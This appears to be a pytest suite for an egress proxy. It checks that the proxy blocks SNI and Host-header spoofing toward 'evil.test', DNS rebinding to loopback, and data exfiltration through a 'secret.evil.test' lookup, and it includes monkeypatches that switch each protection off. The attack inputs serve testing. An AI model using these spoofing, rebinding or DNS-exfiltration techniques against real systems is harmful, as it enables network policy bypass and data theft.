"""Each attack works against the same proxy without the one protection that it is about."""

from __future__ import annotations

import pytest

from .conftest import ANSWER, WEB
from .lab import RESOLVER, Lab, Resolver, Server, everything, hello

HOSTS = {"good.test": [WEB], "rebound.test": ["127.0.0.1"]}
ALLOW = ("good.test", "rebound.test", WEB)
NAMES = "streams.Streams._agrees = lambda *_: True"
ADDRESSES = "network.admit = lambda egress, host, port, *_: network.decide(egress, host, port)"
RULES = "network.decide = lambda *_: network.Verdict(allowed=True, rule='', source='', reason='')"


@pytest.mark.parametrize("without", ["", NAMES])
def test_cannot_name_another_server_in_tls(without: str) -> None:
    with Lab(HOSTS, ALLOW, without=without) as lab:
        tls = Server(lab.outside.listen(WEB, 443))
        with lab.to("good.test", 443) as sock:
            sock.sendall(hello("evil.test"))
            sock.shutdown(1)
            everything(sock)
        if without:
            assert b"evil.test" in tls.wait()[0]
        assert tls.count == bool(without)
        tls.close()


@pytest.mark.parametrize("without", ["", NAMES])
def test_cannot_name_another_host_in_http(without: str) -> None:
    with Lab(HOSTS, ALLOW, without=without) as lab:
        web = Server(lab.outside.listen(WEB, 80), ANSWER, until=b"\r\n\r\n")
        with lab.to("good.test", 80) as sock:
            sock.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
            assert everything(sock).startswith(b"HTTP/1.1 200" if without else b"HTTP/1.1 403")
        # And even then the request that goes out is for the host that was judged.
        assert all(b"Host: good.test\r\n" in heard for heard in web.heard)
        assert web.count == bool(without)
        web.close()


@pytest.mark.parametrize("without", ["", ADDRESSES])
def test_cannot_reach_the_hosts_loopback_by_a_name(without: str) -> None:
    with Lab(HOSTS, ALLOW, without=without) as lab:
        own = Server(lab.outside.listen("127.0.0.1", 80), ANSWER, until=b"\r\n\r\n")
        with lab.to("rebound.test", 80) as sock:
            sock.sendall(b"GET / HTTP/1.1\r\nHost: rebound.test\r\n\r\n")
            assert everything(sock).endswith(b"hi") == bool(without)
        assert own.count == bool(without)
        own.close()


@pytest.mark.parametrize("without", ["", RULES])
def test_cannot_carry_anything_out_in_a_name(without: str) -> None:
    with Lab({}, ALLOW, without=without) as lab:
        resolver = Resolver(lab.outside.udp_listen(RESOLVER, 53))
        with lab.to("secret.evil.test", 80) as sock:
            sock.sendall(b"GET / HTTP/1.1\r\nHost: secret.evil.test\r\n\r\n")
            everything(sock)
        assert bool(resolver.asked) == bool(without)
        resolver.close()
